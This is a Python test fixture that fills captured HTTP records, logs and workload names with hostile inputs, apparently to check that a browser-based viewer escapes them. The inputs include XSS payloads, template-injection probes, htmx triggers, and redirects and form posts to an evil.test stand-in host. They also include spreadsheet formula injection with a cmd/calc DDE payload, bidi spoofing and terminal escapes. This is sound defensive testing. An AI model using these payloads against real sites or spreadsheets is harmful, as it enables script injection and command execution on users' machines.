"""Captures whose every part tries to act in a browser."""

import time
from json import dumps

from app.contract.record import Body, Workload
from app.store import Incoming
from tests.records import OTHER_BOOT, exchange, incoming, log, spliced

TEXTS = [
    "<script>window.acted=1</script>",
    "<img src=x onerror=window.acted=1>",
    "<svg onload=window.acted=1><set attributeName=href to=javascript:acted=1 /></svg>",
    "\"'><body onload=window.acted=1>",
    "</pre></td></table><h1>injected</h1>",
    "</title><script>window.acted=1</script>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "<style>*{display:none!important}</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<a href=javascript:window.acted=1 autofocus>x</a>",
    "<div hx-get=/logout hx-trigger=load>x</div>",
    "<div data-hx-on:load='window.acted=1' hx-on:htmx:load='window.acted=1'>x</div>",
    "<template hx type=partial hx-target=body>gone</template>",
    "<iframe srcdoc='<script>parent.acted=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><input name=form_token></form>",
    "javascript:window.acted=1",
    "data:text/html,<script>alert(1)</script>",
    "\u202egpj.exe\u2066\u200f\u061c",
    "\x1b[2J\x1b]0;owned\x07\x00\x08\x7f\x9b31m",
    '=HYPERLINK("http://evil.test")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\ufeff\u2028\u2029&lt;b&gt;&#60;i&#62;",
    "\U0001d573\u0337\u0321\u031b" * 20,
    "%3Cscript%3E\\u003cscript\\u003e",
]
LONG = "A" * 250_000


def captures() -> list[Incoming]:
    now = time.time_ns()
    records = []
    for n, text in enumerate([*TEXTS, LONG], 1):
        short = text[:500]
        json = f'{{"k":{dumps(text)},{dumps(short)}:[{dumps(text)}]}}'
        headers = [(short, text[:8000]), ("Content-Type", "application/json")]
        records.append(
            exchange(
                n, boot=OTHER_BOOT, time_ns=now - n * 10**6, host=short, path="/" + text[:8000],
                query=[(short, text[:8000])], headers=headers, method=short[:60], pod=short,
                body=Body(text=json[: 256 * 1024], size=len(json)), namespace=short,
                product_version=short, rule=short, route=short, profile="cribl", reason=short,
                detail=text[:3000],
            )
        )  # fmt: skip
    records += [
        log(n, text, boot=OTHER_BOOT, time_ns=now - n * 10**6) for n, text in enumerate(TEXTS, 101)
    ]
    for n, text in enumerate(TEXTS, 201):
        pod, at = Workload(pod=text[:200]), now - n * 10**6
        records.append(spliced(n, text[:200], boot=OTHER_BOOT, time_ns=at, workload=pod))
    return incoming(*records)


def id_of(n: int) -> str:
    return f"{OTHER_BOOT}-{n}"
